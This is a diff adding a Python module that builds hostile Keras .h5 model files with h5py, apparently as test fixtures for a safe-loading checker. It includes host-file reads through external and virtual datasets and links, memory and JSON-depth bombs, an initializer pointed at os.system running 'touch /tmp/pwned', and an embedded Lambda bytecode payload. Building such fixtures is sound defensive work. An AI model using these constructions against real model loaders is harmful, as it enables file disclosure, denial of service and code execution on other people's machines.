@@ -1,0 +1,152 @@
+"""Hostile .h5 files, made from a benign Keras model with h5py alone (no TensorFlow needed).
+
+Each maker copies `source` (a Keras 3 MLP: Input 784 -> Dense 32 -> Dense 10) to `target` and plants
+one attack. They are the attacks of the 2025-2026 Keras advisories and of HDF5 itself: files that
+point at host files, declare memory they do not store, or smuggle code and foreign classes in the config.
+"""
+
+from __future__ import annotations
+
+import json
+import shutil
+from collections.abc import Callable
+from pathlib import Path
+from typing import Any
+
+import h5py
+import numpy as np
+
+KERNEL = "model_weights/dense/sequential/dense/kernel"
+
+
+def _copy(source: Path, target: Path) -> Path:
+    shutil.copyfile(source, target)
+    return target
+
+
+def _edit_config(source: Path, target: Path, change: Callable[[dict[str, Any]], None]) -> Path:
+    _copy(source, target)
+    with h5py.File(target, "r+") as handle:
+        config = json.loads(handle.attrs["model_config"])
+        change(config)
+        handle.attrs["model_config"] = json.dumps(config)
+    return target
+
+
+def _layers(config: dict[str, Any]) -> list[dict[str, Any]]:
+    return config["config"]["layers"]
+
+
+def external_dataset(source: Path, target: Path, secret: Path) -> Path:
+    """The first kernel's bytes live in a host file: loading it would read that file as weights."""
+    _copy(source, target)
+    with h5py.File(target, "r+") as handle:
+        shape, dtype = handle[KERNEL].shape, handle[KERNEL].dtype
+        del handle[KERNEL]
+        handle.create_dataset(KERNEL, shape=shape, dtype=dtype, external=[(str(secret), 0, h5py.h5f.UNLIMITED)])
+    return target
+
+
+def virtual_dataset(source: Path, target: Path, secret_h5: Path) -> Path:
+    """The first kernel is a virtual dataset mapped from another HDF5 file on the host."""
+    with h5py.File(secret_h5, "w") as other:
+        other.create_dataset("secret", data=np.arange(784 * 32, dtype="float32").reshape(784, 32))
+    _copy(source, target)
+    with h5py.File(target, "r+") as handle:
+        del handle[KERNEL]
+        layout = h5py.VirtualLayout(shape=(784, 32), dtype="float32")
+        layout[:] = h5py.VirtualSource(str(secret_h5), "secret", shape=(784, 32))
+        handle.create_virtual_dataset(KERNEL, layout)
+    return target
+
+
+def external_link(source: Path, target: Path, secret_h5: Path) -> Path:
+    """A weight group is an external link into another file on the host."""
+    with h5py.File(secret_h5, "w") as other:
+        other.create_dataset("kernel", data=np.zeros((784, 32), "float32"))
+    _copy(source, target)
+    with h5py.File(target, "r+") as handle:
+        del handle[KERNEL]
+        handle[KERNEL] = h5py.ExternalLink(str(secret_h5), "/kernel")
+    return target
+
+
+def soft_link(source: Path, target: Path) -> Path:
+    """A weight is a soft link elsewhere in the file."""
+    _copy(source, target)
+    with h5py.File(target, "r+") as handle:
+        handle["model_weights/dense/sequential/dense/alias"] = h5py.SoftLink("/" + KERNEL)
+    return target
+
+
+def shape_bomb(source: Path, target: Path) -> Path:
+    """A dataset declaring a terabyte of float32 in a file of kilobytes (chunked, nothing written)."""
+    _copy(source, target)
+    with h5py.File(target, "r+") as handle:
+        del handle[KERNEL]
+        handle.create_dataset(KERNEL, shape=(2**19, 2**19), dtype="float32", chunks=(64, 64))
+    return target
+
+
+def oversized_config(source: Path, target: Path) -> Path:
+    """A model config of 20 MB."""
+    return _edit_config(source, target, lambda config: config.update(padding="x" * (20 * 1024 * 1024)))
+
+
+def deep_config(source: Path, target: Path) -> Path:
+    """A model config nested 5,000 levels deep (a recursive JSON parser's stack overflow)."""
+    _edit_config(source, target, lambda config: _layers(config)[1]["config"].update(trap="TRAP"))
+    with h5py.File(target, "r+") as handle:
+        text = handle.attrs["model_config"]
+        handle.attrs["model_config"] = text.replace('"TRAP"', "[" * 5000 + "0" + "]" * 5000)
+    return target
+
+
+def foreign_module(source: Path, target: Path) -> Path:
+    """An initializer whose class the config says lives in the `os` module (the module-path advisories)."""
+    def change(config: dict[str, Any]) -> None:
+        _layers(config)[1]["config"]["kernel_initializer"] = {
+            "module": "os", "class_name": "system", "config": {"command": "touch /tmp/pwned"},
+            "registered_name": None}
+    return _edit_config(source, target, change)
+
+
+def renamed_class(source: Path, target: Path, class_name: str, **config: Any) -> Path:
+    """The first Dense layer renamed to another class (custom, TFSMLayer, StringLookup, TFOpLambda...)."""
+    def change(document: dict[str, Any]) -> None:
+        layer = _layers(document)[1]
+        layer["class_name"] = class_name
+        layer["config"].update(config)
+    return _edit_config(source, target, change)
+
+
+def registered_custom(source: Path, target: Path) -> Path:
+    """A Dense layer registered as a custom object (`registered_name`)."""
+    def change(config: dict[str, Any]) -> None:
+        _layers(config)[1]["registered_name"] = "my_package>Dense"
+    return _edit_config(source, target, change)
+
+
+def keras2_lambda(source: Path, target: Path) -> Path:
+    """A Keras-2 style Lambda: bytecode in the config, which tf_keras runs whatever safe_mode says."""
+    def change(config: dict[str, Any]) -> None:
+        _layers(config).insert(1, {"class_name": "Lambda", "config": {
+            "name": "lambda", "function": ["4wEAAAAAAAAAAAAAAAEAAAADAAAAQwAAAHMEAAAAfABTACkBTqkAKQHaAXhyAQAAAHIBAAAA",
+                                           None, None],
+            "function_type": "lambda", "output_shape_type": "raw", "arguments": {}}})
+    return _edit_config(source, target, change)
+
+
+def config_bomb(source: Path, target: Path) -> Path:
+    """A config declaring a Dense of 10^9 units over stored weights of a few kilobytes."""
+    def change(config: dict[str, Any]) -> None:
+        _layers(config)[1]["config"]["units"] = 10**9
+    return _edit_config(source, target, change)
+
+
+def oversized_file(target: Path, size: int = 600 * 1024 * 1024) -> Path:
+    """A sparse file over KEATS's 500 MB limit (takes no disk space; grader must not read it)."""
+    with open(target, "wb") as handle:
+        handle.write(b"\x89HDF\r\n\x1a\n")
+        handle.truncate(size)
+    return target
